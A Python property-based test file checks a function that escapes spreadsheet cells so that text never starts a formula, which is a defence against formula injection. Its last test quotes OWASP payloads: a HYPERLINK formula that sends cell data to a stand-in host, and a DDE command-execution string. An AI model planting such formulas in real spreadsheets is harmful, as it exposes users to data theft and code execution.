"""Text written to a spreadsheet never starts a formula, and reading it back gives the text."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from siyu.core.formula_cells import FORMULA_STARTS, escape_formula, unescape_formula

TEXT = (
    st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", "1", " ", "中"]), max_size=8)
    | st.text()
)


@given(TEXT)
def test_an_escaped_cell_never_starts_a_formula(text: str) -> None:
    assert not escape_formula(text).startswith(FORMULA_STARTS)


@given(TEXT)
def test_unescaping_gives_back_the_text(text: str) -> None:
    assert unescape_formula(escape_formula(text)) == text


@given(TEXT)
def test_text_that_starts_no_formula_is_written_as_it_is(text: str) -> None:
    if not text.lstrip("'").startswith(FORMULA_STARTS):
        assert escape_formula(text) == text


def test_the_owasp_examples() -> None:
    assert (
        escape_formula('=HYPERLINK("http://x.example/?"&A1,"click")') == '\'=HYPERLINK("http://x.example/?"&A1,"click")'
    )
    assert escape_formula("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0"
    assert escape_formula("-2+3") == "'-2+3"
    assert escape_formula("@SUM(1+1)") == "'@SUM(1+1)"
    assert escape_formula("\t=1") == "'\t=1"
    assert escape_formula("'=1") == "''=1"
    assert escape_formula("陈一") == "陈一"
